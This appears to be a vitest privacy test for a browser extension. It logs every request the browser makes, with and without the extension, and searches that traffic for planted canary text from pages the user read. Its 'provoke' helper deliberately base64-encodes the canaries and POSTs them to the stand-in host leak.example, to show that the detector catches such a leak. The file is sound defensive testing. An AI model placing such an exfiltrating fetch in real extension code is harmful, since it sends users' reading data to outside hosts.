import { setTimeout as pause } from 'node:timers/promises';
import { beforeAll, describe, expect, it } from 'vitest';
import { tried } from '../trust/tries.ts';
import { openBareBrowser } from './lab/bare-browser.ts';
import { type CanaryPage, planted } from './lab/canary.ts';
import { serveFeeds } from './lab/feed-server.ts';
import { feedOf } from './lab/feed-texts.ts';
import { Lab } from './lab/lab.ts';
import { hostsIn, leaks, secretsOf } from './lab/ledger.ts';
import ALLOWED from './lab/ledger-hosts.json' with { type: 'json' };
import { type Entry, openLedgerProxy } from './lab/ledger-proxy.ts';
import { loadedFromElsewhere } from './lab/loaded-from-elsewhere.ts';
import { FLOOD, newsPage, PUFFINS, SUMMIT } from './lab/stories.ts';
import { HOSTS, serveTestSite, type TestSite } from './lab/test-site.ts';
import { bareTour, type TourPages, tour, type Watch } from './lab/tour.ts';

/** What the browser sent: with the extension, by itself, and where the extension's own page was made to send. */
interface Ledgers {
  readonly entries: readonly Entry[];
  readonly bare: readonly Entry[];
  readonly provoked: readonly Entry[];
  readonly audited: readonly Audit[];
}

/** A surface as it was drawn, and what of it came or would come from elsewhere. */
interface Audit {
  readonly name: string;
  readonly elsewhere: readonly string[];
}

const HOUR_MS = 3_600_000;
/** Certificates for it come from the feed server. */
const FEED_HOST = 'gazette.example';
const FEED = '/feed.xml';

describe('all that the browser sends while pages are read, marked, compared, copied, saved, exported and imported, and a feed is switched on', () => {
  const pages: TourPages = { read: planted(SUMMIT, 'read'), saved: planted(FLOOD, 'saved') };
  const both: readonly CanaryPage[] = [pages.read, pages.saved];
  const secrets = both.flatMap((page) => secretsOf(page, `http://${HOSTS[0]}${page.path}`));
  let ledgers: Ledgers;

  beforeAll(async () => {
    const start = performance.now();
    const told = await ledgerWith(pages);
    ledgers = { ...told, bare: await ledgerWithout(both, performance.now() - start) };
  }, HOUR_MS);

  it('goes to no host that it does not go to without the extension, but the list of those allowed', (context) => {
    const { entries, bare } = ledgers;
    tried(context, entries.length);
    const own = hostsIn(bare);
    expect(own).toContain(HOSTS[0]);
    const ours = entries.filter((entry) => !isDownloadCheck(entry));
    expect(hostsIn(ours).filter((host) => !own.includes(host))).toEqual(ALLOWED);
  });

  it('asks the feed that is switched on for itself, with nothing in the question', () => {
    const questions = ledgers.entries.filter(({ host, line }) => host === FEED_HOST && line !== 'CONNECT');
    expect(questions.length).toBeGreaterThan(0);
    expect(new Set(questions.map(({ line }) => line))).toEqual(new Set([`GET ${FEED}`]));
    for (const { sent } of questions) expect(String(sent)).not.toMatch(/^(?:cookie|referer)$/im);
  });

  it('holds nothing of what was read, in whatever form, that it does not hold without the extension', (context) => {
    const { entries, bare } = ledgers;
    tried(context, entries.length * secrets.reduce((sum, { forms }) => sum + forms.length, 0));
    expect(leaks(entries, [], secrets)).not.toEqual([]);
    expect(leaks(entries, bare, secrets)).toEqual([]);
  });

  it('is drawn of the package alone: no element of any surface loads from elsewhere', (context) => {
    const { audited } = ledgers;
    tried(context, audited.length);
    expect(audited.length).toBeGreaterThanOrEqual(9);
    expect(audited.filter(({ elsewhere }) => elsewhere.length > 0)).toEqual([]);
  });

  it('would be seen, encrypted and encoded as it may be', () => {
    const { provoked, bare } = ledgers;
    expect(hostsIn(provoked)).toContain('leak.example');
    const seen = leaks(provoked, bare, secrets).filter((line) => line.includes('leak.example: POST /base64'));
    expect(seen.map((line) => line.split(' in ')[0])).toEqual([
      'canary of the address',
      'canary of the title',
      'canary of the text',
    ]);
  });
});

/**
 * Chromium asks its maker about every archive that a reader stores, whoever wrote it: an export is one. What it tells is
 * searched for canaries like all the rest.
 */
function isDownloadCheck({ host, line }: Entry): boolean {
  return (
    host === 'sb-ssl.google.com' && /^(?:CONNECT$|POST \/safebrowsing\/clientreport\/download\?)/.test(line)
  );
}

function publish(site: TestSite, { path, story }: CanaryPage): string {
  site.put(path, newsPage(story));
  return site.at(path);
}

const portOf = (address: string) => Number(new URL(address).port);

/** @param patience ms; a browser calls home at its own times, so it gets as many as the extension's had */
async function ledgerWithout(pages: readonly CanaryPage[], patience: number): Promise<readonly Entry[]> {
  const proxy = await openLedgerProxy();
  const site = await serveTestSite();
  proxy.serve(HOSTS[0], site.port);
  const browser = await openBareBrowser({ proxy: proxy.port });
  try {
    await bareTour(
      browser,
      pages.map((page) => publish(site, page)),
    );
    await pause(patience);
  } finally {
    await browser.close();
    site.close();
    proxy.close();
  }
  return [...proxy.entries];
}

async function ledgerWith(pages: TourPages): Promise<Omit<Ledgers, 'bare'>> {
  const audited: Audit[] = [];
  const audit: Watch = async (surface, name) => {
    audited.push({ name, elsewhere: await loadedFromElsewhere(surface) });
  };
  const proxy = await openLedgerProxy();
  const lab = await Lab.open(undefined, { proxy: proxy.port });
  const feeds = await serveFeeds();
  feeds.put(FEED, { status: 200, body: feedOf(FEED_HOST, PUFFINS), headers: { etag: '"one"' } });
  let told = 0;
  try {
    proxy.serve(HOSTS[0], lab.site.port);
    proxy.serveSecurely(FEED_HOST, portOf(feeds.at(FEED)));
    for (const page of [pages.read, pages.saved]) publish(lab.site, page);

    await tour(lab, { ...pages, feed: { host: FEED_HOST, url: `https://${FEED_HOST}${FEED}` } }, audit);

    told = proxy.entries.length;
    await provoke(lab, pages.read);
  } finally {
    await lab.close();
    feeds.close();
    proxy.close();
  }
  const provoked = proxy.entries.slice(told);
  const entries = proxy.entries.filter(({ host }, at) => at < told || host !== 'leak.example');
  return { entries, provoked, audited };
}

/** What this test must be able to see: a page of the extension sends what was read, as its policy lets it where feeds are read. */
async function provoke(lab: Lab, { canaries }: CanaryPage): Promise<void> {
  const words = canaries.map((each) => each.words).join(' and ');
  const body = Buffer.from(words).toString('base64');
  await lab.desk.page.evaluate(
    (sent) => fetch('https://leak.example/base64', { method: 'POST', body: sent }).catch(() => undefined),
    body,
  );
}
